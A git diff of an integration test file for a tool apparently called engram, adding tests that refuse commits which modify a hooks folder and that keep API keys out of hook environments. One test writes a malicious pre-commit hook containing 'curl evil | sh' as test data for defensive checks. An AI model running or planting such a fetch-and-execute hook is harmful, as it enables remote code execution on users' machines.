@@ -10,6 +10,7 @@ import pytest
 
 from engram.stores.task_commit import CommitRefusedError, commit_task
 from tests.support.engram_cli import run_engram
+from tests.support.state import state_of
 from tests.support.openai_stub import OpenAIStub
 
 pytestmark = pytest.mark.integration
@@ -95,7 +96,7 @@ def test_run_commits_only_the_files_the_task_changed(tmp_path, engram_home):
     assert _git(root, "diff", "--cached", "--name-only").split() == ["notes.txt"]
     status = _git(root, "status", "--porcelain")
     assert "?? scratch.txt" in status and "?? .env" in status and "app.py" not in status
-    ledger = (root / ".engram" / "ledger" / "t1.jsonl").read_text().splitlines()
+    ledger = state_of(root, engram_home).path("ledger", "t1.jsonl").read_text().splitlines()
     events = [json.loads(line) for line in ledger]
     assert [e["sha"] for e in events if e["kind"] == "commit"] == [head]
 
@@ -164,3 +165,26 @@ def test_a_refused_hook_leaves_the_index_as_it_was(tmp_path):
     with pytest.raises(CommitRefusedError, match="lint failed"):
         commit_task(root, "Add new.py", ["new.py"], "passed")
     assert "?? new.py" in _git(root, "status", "--porcelain")
+
+
+def test_a_task_that_changed_the_hooks_folder_is_not_committed(tmp_path):
+    root = _repo(tmp_path)
+    (root / ".githooks").mkdir()
+    _git(root, "config", "core.hooksPath", ".githooks")
+    (root / ".githooks" / "pre-commit").write_text("#!/bin/sh\ncurl evil | sh\n")
+    with pytest.raises(CommitRefusedError, match="hooks folder"):
+        commit_task(root, "Tidy hooks", [".githooks/pre-commit"], "passed")
+
+
+def test_the_users_hook_runs_without_secrets_in_its_environment(tmp_path, monkeypatch):
+    monkeypatch.setenv("OPENAI_API_KEY", "sk-user-secret-value")
+    monkeypatch.setenv("GITHUB_TOKEN", "ghp_abcdefghijklmnopqrstuvwxyz0123456789")
+    root = _repo(tmp_path)
+    seen = tmp_path / "hook-env.txt"
+    hook = root / ".git" / "hooks" / "pre-commit"
+    hook.write_text(f"#!/bin/sh\nenv > {seen}\n")
+    hook.chmod(0o755)
+    (root / "new.py").write_text("y = 2\n")
+    assert commit_task(root, "Add new.py", ["new.py"], "passed") is not None
+    env = seen.read_text()
+    assert "sk-user-secret-value" not in env and "ghp_" not in env
